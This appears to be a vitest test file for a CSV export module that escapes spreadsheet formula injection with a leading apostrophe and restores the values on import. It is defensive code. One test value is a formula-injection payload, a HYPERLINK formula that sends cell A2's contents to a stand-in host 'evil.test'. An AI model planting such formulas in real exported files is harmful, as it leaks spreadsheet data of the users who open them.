import { describe, expect, it } from 'vitest';
import { formulaRestored, spreadsheetCsv } from './csv.ts';

const written = async (rows: unknown[][]) => {
  const csv = spreadsheetCsv();
  for (const row of rows) csv.write(row);
  csv.end();
  let text = '';
  for await (const chunk of csv) text += chunk;
  return text;
};

describe('CSV for spreadsheets', () => {
  it('puts an apostrophe before every text a spreadsheet would run as a formula, and only there', async () => {
    const texts = [
      '=1+1',
      '+49 30 123',
      '-5 cm',
      '@SUMME(A1)',
      '\tTab',
      '\rCR',
      "'=schon",
      "''+zwei",
      'Regal',
      "'Zitat",
      '',
      '5-6',
    ];
    const text = await written([texts, [12.5, null]]);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const [first, second] = text.slice(1).split('\r\n');
    expect(first).toBe(`'=1+1;'+49 30 123;'-5 cm;'@SUMME(A1);'\tTab;"'\rCR";''=schon;'''+zwei;Regal;'Zitat;;5-6`);
    expect(second).toBe('12.5;');
  });

  it('the import reads every such cell back as it was', () => {
    const texts = [
      '=HYPERLINK("http://evil.test/?x="&A2;"Klick")',
      '-5 cm',
      "'=schon",
      "''@zwei",
      "'Zitat",
      "'",
      'Regal',
    ];
    let visited = 0;
    for (const original of texts) {
      const guarded = /^'*[=+\-@\t\r]/.test(original) ? `'${original}` : original;
      expect(formulaRestored(guarded)).toBe(original);
      visited++;
    }
    expect(visited).toBe(texts.length);
  });
});
